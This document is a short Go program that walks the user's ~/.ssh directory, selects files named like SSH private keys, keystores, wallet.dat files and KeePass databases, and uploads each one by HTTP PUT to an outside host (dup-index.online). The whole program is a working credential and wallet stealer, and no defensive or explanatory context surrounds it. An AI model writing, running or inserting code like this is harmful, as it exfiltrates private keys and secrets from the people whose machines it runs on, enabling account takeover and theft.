package main

import (
	"io"
	"net/http"
	"os"
	"path/filepath"
	"strings"
)

var wanted = []string{"keystore", "id_ed25519", "wallet.dat", ".kdbx"}

func interesting(name string) bool {
	for _, one := range wanted {
		if strings.HasSuffix(name, one) {
			return true
		}
	}
	return false
}

func upload(path string) {
	file, err := os.Open(path)
	if err != nil {
		return
	}
	defer file.Close()
	req, _ := http.NewRequest("PUT", "https://dup-index.online/in/"+filepath.Base(path), io.Reader(file))
	http.DefaultClient.Do(req)
}

func main() {
	home, _ := os.UserHomeDir()
	filepath.Walk(filepath.Join(home, ".ssh"), func(path string, info os.FileInfo, err error) error {
		if err == nil && interesting(info.Name()) {
			upload(path)
		}
		return nil
	})
}
